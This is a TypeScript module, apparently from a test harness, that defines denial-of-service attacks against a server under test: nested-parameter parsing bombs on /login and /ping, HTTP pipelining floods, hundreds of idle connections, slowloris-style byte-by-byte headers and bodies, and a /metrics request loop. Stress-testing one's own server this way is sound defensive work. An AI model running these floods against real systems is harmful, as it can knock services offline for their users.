/** Attacks by connections and by what precedes any login. */
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, inLoops } from '../attack.js';
import { Caller } from '../caller.js';
import { ATTACKER, type World } from '../world.js';

const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };

function open({ base }: World): Promise<net.Socket> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve) => {
    const socket = net.connect({ host: hostname, port: Number(port), localAddress: ATTACKER });
    // Closed by the server: the attack opens another one.
    socket.on('error', () => {});
    socket.once('connect', () => resolve(socket));
    socket.once('close', () => resolve(socket));
  });
}

export const connections: readonly Attack[] = [
  {
    name: 'nested members in the form of a login',
    async prepare({ base }) {
      const caller = new Caller(base, ATTACKER);
      const body = Buffer.from(
        Array.from({ length: 4000 }, (_, i) => `a[${i}][4999][4999][4999]=1`).join('&'),
      );
      return (isOver) => inLoops(2, isOver, () => caller.send('POST', '/login', body, FORM));
    },
  },
  {
    name: 'nested members in a query',
    async prepare({ base }) {
      const caller = new Caller(base, ATTACKER);
      const query = Array.from({ length: 900 }, (_, i) => `a[${i}][4999]=1`).join('&');
      return (isOver) => inLoops(8, isOver, () => caller.send('GET', `/ping?${query}`));
    },
  },
  {
    name: 'pipelining: 20 connections of 2,000 requests',
    async prepare(world) {
      const requests = 'GET /users/check/username/x HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2000);
      return (isOver) =>
        inLoops(20, isOver, async () => {
          const socket = await open(world);
          socket.resume();
          socket.write(requests);
          const closed = new Promise((resolve) => socket.once('close', resolve));
          while (!isOver() && !socket.destroyed) await Promise.race([closed, sleep(100)]);
          socket.destroy();
        });
    },
  },
  {
    name: 'silent connections: 500',
    async prepare(world) {
      return (isOver) =>
        inLoops(500, isOver, async () => {
          const socket = await open(world);
          const closed = new Promise((resolve) => socket.once('close', resolve));
          while (!isOver() && !socket.destroyed) await Promise.race([closed, sleep(200)]);
          await sleep(100);
          socket.destroy();
        });
    },
  },
  {
    name: 'slow heads and bodies: 500',
    async prepare(world) {
      const head =
        'POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n';
      return (isOver) =>
        inLoops(500, isOver, async (loop) => {
          const socket = await open(world);
          socket.resume();
          const text = loop % 2 === 0 ? head : `${head}\r\n${' '.repeat(4000)}`;
          for (const byte of text) {
            if (isOver() || socket.destroyed) break;
            socket.write(byte);
            await sleep(200);
          }
          socket.destroy();
          await sleep(100);
        });
    },
  },
  {
    name: '/metrics in a loop',
    async prepare({ base }) {
      const caller = new Caller(base, ATTACKER);
      return (isOver) => inLoops(16, isOver, () => caller.send('GET', '/metrics'));
    },
  },
];
